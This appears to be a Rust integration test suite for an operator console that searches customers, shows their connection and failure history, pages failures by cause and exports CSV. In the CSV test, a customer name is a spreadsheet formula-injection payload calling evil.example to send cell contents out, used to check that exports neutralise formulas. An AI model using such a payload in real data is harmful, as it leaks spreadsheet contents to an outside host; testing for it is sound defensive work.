//! What an operator looks for and finds: a customer, an org, a cause; its history, and all of it as CSV.

use domain::{Customer, Failure, FailureId, secret::Hash};
use jiff::SignedDuration;
use journeys::Story;
use serde_json::json;
use world::browser::{Browser, Page};

const KINDS: [&str; 5] = ["Session", "Attempt", "Failure", "Refresh", "Connection"];

/// Acme denies, connects, and a refresh fails and works again; another customer only reports a failure.
async fn two_customers() -> Story {
    let story = Story::installed().await;
    story.deny().await;
    story.pass(SignedDuration::from_mins(20));
    let connection = story.connected().await;
    story.stack.salesforce.queue_token_fault(world::salesforce::Fault::Answer {
        status: 400,
        error: "invalid_grant".into(),
        description: "ip restricted".into(),
    });
    story.pass(SignedDuration::from_mins(16));
    story.token(&connection).await;
    story.pass(SignedDuration::from_mins(61));
    story.stack.sweep().await;
    story.pass(SignedDuration::from_mins(1));
    story.token(&connection).await;
    let keystone = json!({ "customer": { "id": "k-1", "name": "Keystone" } });
    let wish = story.wish(keystone).await;
    story.tell(&wish, "error=access_denied").await;
    story.stack.tally().await;
    story
}

async fn find(page: &Page, text: &str) -> Page {
    page.fill("q", text).click("Find").await
}

/// Follows the first link of that text: several lead to the same place.
async fn follow(page: &Page, text: &str) -> Page {
    let (_, address) = page.links().into_iter().find(|(shown, _)| shown == text).expect(text);
    page.open(&address).await
}

/// Every address that a browser asked for.
fn addresses(browser: &Browser) -> String {
    browser.history().iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
}

#[tokio::test]
async fn operator_finds_a_customer_by_whatever_is_known() {
    let story = two_customers().await;
    let connection = story.connections().await[0].clone();
    let (org, id) = (connection["org_id"].as_str().unwrap(), connection["id"].as_str().unwrap());
    let failure = story.latest_failure().await;
    let (browser, page) = story.operator().await;

    for text in ["c-acme", "ACME corp", " Acme Corporation ", org, &org[..15], id] {
        let found = find(&page, text).await;
        assert_eq!(found.heading(), "Acme Corporation", "{text}: {}", found.text());
        assert_eq!(found.status, 200, "{text}");
    }
    // Eight letters could be a reference; an id of a session and of a failure lead to their customer too.
    assert_eq!(find(&page, "Keystone").await.heading(), "Keystone");
    let session = failure.session.as_ref().expect("a session").to_string();
    assert_eq!(find(&page, &session).await.heading(), "Keystone");
    for reference in [failure.id.to_string(), failure.id.reference().to_lowercase()] {
        let found = find(&page, &reference).await;
        assert!(found.has("Access denied by the user"), "{reference}: {}", found.text());
        assert_eq!(found.click("This customer’s history").await.heading(), "Keystone");
    }
    let both = find(&page, "-").await;
    assert_eq!(both.all(".rows strong"), ["Acme Corporation", "Keystone"], "{}", both.text());
    let nothing = find(&page, "Globex").await;
    assert!(nothing.has("Nothing matches “Globex”") && nothing.has("all connections"), "{}", nothing.text());
    // Exactly the names of what is searched are in no address and in no log.
    let places = format!("{}\n{}", addresses(&browser), story.logs.text());
    for typed in ["Keystone", "ACME corp", "Acme+Corporation", "Globex", "k-1", "c-acme"] {
        assert!(!addresses(&browser).contains(typed), "{typed} is in an address");
    }
    assert!(!places.contains("Globex"), "what was searched for is in a log");
}

#[tokio::test]
async fn one_timeline_has_sessions_attempts_failures_refreshes_and_connections() {
    let story = two_customers().await;
    let (browser, page) = story.operator().await;

    let history = follow(&page, "Acme Corporation").await;

    let kinds = history.all(".timeline strong");
    for kind in KINDS {
        assert!(kinds.iter().any(|shown| shown == kind), "{kind} is missing: {}", history.text());
    }
    let events = history.all(".timeline li").join("\n");
    for said in [
        "Access denied by the user (callback)",
        "Sent to Salesforce, attempt 1",
        "Salesforce granted access",
        "IP address refused by the org (refresh)",
        "Succeeded again after: IP address refused by the org",
        "Resolved by a new connection: Access denied by the user",
        "Now: connected",
        "Now: active",
    ] {
        assert!(events.contains(said), "{said}\n{events}");
    }
    let first = history.all(".timeline li").pop().unwrap();
    assert!(first.contains("created for Fernway Sync"), "the oldest is last: {first}");
    let connection = story.connections().await[0]["id"].as_str().unwrap().to_owned();
    assert!(history.has(&format!("POST /v1/connections/{connection}/check")), "{}", history.text());
    for name in ["uma@", "@acme.example"] {
        assert!(!history.body.contains(name), "no Salesforce user is named");
    }
    assert!(history.body.len() < 60_000, "{} bytes", history.body.len());

    story.stack.dynamodb.reset_counts();
    let url = history.url.to_string();
    browser.get(&url).await;
    let requests = story.stack.dynamodb.requests();
    let (queries, batches) = (count(&requests, "Query"), count(&requests, "BatchGetItem"));
    assert!(queries == 3 && batches == 2 && requests.len() <= 7, "{requests:?}");

    // Its digest is another product's customer's too, of whom that product knows nothing.
    let other = story.stack.api_key("tidewater").expose().to_owned();
    let link = story.call_with(&other, &[], "POST", "/v1/ops-links", None).await;
    let tidewater = story.stack.browser();
    tidewater.get(link.text("url")).await.click("Sign in").await;
    let path = format!("{}/customers/{}", story.ops(), Hash::of("c-acme").as_str());
    assert_eq!(tidewater.get(&path).await.status, 404);
    assert_eq!(tidewater.get(&format!("{path}?product=fernway")).await.status, 400);
    for text in ["c-acme", &connection, "Acme"] {
        let page = tidewater.get(&story.ops()).await;
        let found = find(&page, text).await;
        assert!(found.has("Nothing matches") && !found.has("Acme Corporation"), "{}", found.text());
    }
    for bad in ["c-acme", "x", ""] {
        let path = format!("{}/customers/{bad}", story.ops());
        assert_eq!(browser.get(&path).await.status, 404, "{bad}");
    }
}

fn count(requests: &[world::dynamodb::DynamoRequest], operation: &str) -> usize {
    requests.iter().filter(|request| request.operation == operation).count()
}

fn like(failure: &Failure, cause: &str, number: i64) -> Failure {
    let at = failure.at + SignedDuration::from_secs(number);
    let customer = Customer { id: format!("c-{number}"), name: Some(format!("Customer {number}")) };
    Failure { id: FailureId::mint(at), at, cause: cause.into(), customer, ..failure.clone() }
}

/// As many sessions, failures and connections as a page shows, each with all that can happen to it.
#[tokio::test]
async fn history_of_a_busy_customer_is_under_60_kb() {
    let story = Story::installed().await;
    for number in 1..=22 {
        story.imported_from(&format!("subsidiary{number}"), "c-acme").await;
        story.deny().await;
        story.pass(SignedDuration::from_mins(1));
    }
    story.connected().await;
    story.stack.tally().await;
    let (_, page) = story.operator().await;

    let history = follow(&page, "Acme Corporation").await;

    assert_eq!(history.all(".rows > li").len(), 20);
    let kinds = history.all(".timeline strong");
    let count = |kind: &str| kinds.iter().filter(|shown| *shown == kind).count();
    assert!(count("Failure") >= 19 && count("Session") >= 38, "{}", history.text());
    assert!(history.has("Only the latest 20 of each kind are shown."), "{}", history.text());
    assert!(history.body.len() < 60_000, "{} bytes", history.body.len());
}

#[tokio::test]
async fn cause_leads_to_its_failures_page_by_page() {
    let story = Story::installed().await;
    story.deny().await;
    let denied = story.latest_failure().await;
    for number in 1..=60 {
        story.stack.store.record_failure(&like(&denied, "app_blocked", number)).await.unwrap();
    }
    story.pass(SignedDuration::from_mins(5));
    story.stack.tally().await;
    let (browser, page) = story.operator().await;

    let list = follow(&page, "App blocked").await;

    assert_eq!((list.heading().as_str(), list.status), ("App blocked", 200), "{}", list.text());
    assert!(list.has("Their Salesforce admin has to act"), "{}", list.text());
    let rows = list.all("tbody tr");
    assert!(rows.len() == 50 && rows[0].contains("Customer 60"), "{rows:?}");
    assert!(list.body.len() < 60_000, "{} bytes", list.body.len());
    let older = list.click("Older failures").await;
    let rows = older.all("tbody tr");
    assert!(rows.len() == 10 && rows[9].contains("Customer 1"), "{rows:?}");
    assert!(!older.has("Older failures"), "that was all");
    let all = older.click("Failures of every cause").await;
    assert_eq!(all.heading(), "Failures");
    let customer = follow(&list, "Customer 60").await;
    assert!(customer.has("App blocked (callback)"), "{}", customer.text());

    let after = older.url.query_pairs().find(|(name, _)| name == "after").unwrap().1.into_owned();
    for query in [
        format!("cause=user_denied&after={after}"),
        format!("cause=app_blocked&days=7&after={after}"),
        "after=nonsense".into(),
        "cause=App%20blocked".into(),
        "cause=".to_owned() + &"x".repeat(61),
        "format=xlsx".into(),
        "days=8".into(),
        "custmer=1".into(),
    ] {
        let refused = browser.get(&format!("{}/failures?{query}", story.ops())).await;
        assert_eq!(refused.status, 400, "{query}: {}", refused.text());
    }
}

/// The cells of a CSV file, as a spreadsheet reads them.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut cell, mut is_quoted) = (vec![Vec::new()], String::new(), false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if is_quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => rows.last_mut().expect("a row").push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {}
            '\n' if !is_quoted => {
                rows.last_mut().expect("a row").push(std::mem::take(&mut cell));
                rows.push(Vec::new());
            }
            c => cell.push(c),
        }
    }
    rows.pop();
    rows
}

#[tokio::test]
async fn csv_has_what_is_shown_and_no_cell_is_a_formula() {
    let story = two_customers().await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
    let wish = story.wish(json!({ "customer": { "id": "@c-1", "name": formula } })).await;
    story.tell(&wish, "error=access_denied").await;
    story.stack.tally().await;
    let (browser, page) = story.operator().await;
    let list = browser.get(&format!("{}/failures", story.ops())).await;
    let history = follow(&page, formula).await;

    for (shown, file) in
        [(&page, "latchkey-figures"), (&list, "latchkey-failures"), (&history, "latchkey-customer")]
    {
        let csv = shown.click("Download as CSV").await;
        assert_eq!(
            (csv.status, csv.header("content-type")),
            (200, Some("text/csv; charset=utf-8; header=present"))
        );
        let disposition = csv.header("content-disposition").unwrap();
        assert_eq!(disposition, format!("attachment; filename=\"{file}.csv\""));
        let rows = cells(&csv.body);
        assert!(rows.len() > 2 && rows.iter().all(|row| row.len() == rows[0].len()), "{file}: {rows:?}");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: {cell}");
        }
    }
    let rows = cells(&list.click("Download as CSV").await.body);
    let names: Vec<&str> = rows.iter().map(|row| row[8].as_str()).collect();
    assert!(names.contains(&format!("'{formula}").as_str()) && names.contains(&"Keystone"), "{names:?}");
    assert_eq!(rows.len() - 1, list.all("tbody tr").len(), "a row for each that is shown");
    let figures = cells(&page.click("Download as CSV").await.body);
    let denied = ["causes", "user_denied", "failures", "3"].map(str::to_owned).to_vec();
    assert!(figures.contains(&denied), "{figures:?}");
    let refused = browser.get(&format!("{}?format=xml", story.ops())).await;
    assert_eq!(refused.status, 400);
}

#[tokio::test]
async fn search_asks_for_a_bounded_number_of_items() {
    let story = two_customers().await;
    let (_, page) = story.operator().await;
    for (text, most) in [("LK-0000-0000", 24), ("c-acme", 16), ("Globex", 50), ("00D000000000001AAA", 50)] {
        story.stack.dynamodb.reset_counts();
        find(&page, text).await;
        let asked = story.stack.dynamodb.requests().len();
        println!("{text}: {asked} requests");
        assert!(asked <= most, "{text}: {asked} requests");
    }
}

#[tokio::test]
async fn search_form_is_strict() {
    let story = two_customers().await;
    let (browser, page) = story.operator().await;
    let search = format!("{}/search", story.ops());
    for fields in [
        &[("q", "Acme"), ("q", "Keystone")][..],
        &[("q", "Acme"), ("customer", "x")],
        &[("q", "Acme"), ("days", "8")],
        &[("q", "Acme"), ("app", "nothing")],
        &[("q", "Acme"), ("product", "tidewater")],
    ] {
        let refused = page.post_form(&search, fields).await;
        assert_eq!(refused.status, 400, "{fields:?}: {}", refused.text());
        assert!(!refused.has("Acme"), "{fields:?}");
    }
    let empty = page.post_form(&search, &[("q", "  ")]).await;
    assert_eq!((empty.status, empty.url.path()), (200, "/ops"));
    let long = page.post_form(&search, &[("q", &"x".repeat(201))]).await;
    assert_eq!((long.status, long.url.path()), (200, "/ops"));
    assert_eq!(browser.get(&search).await.status, 404, "there is nothing to get");
}
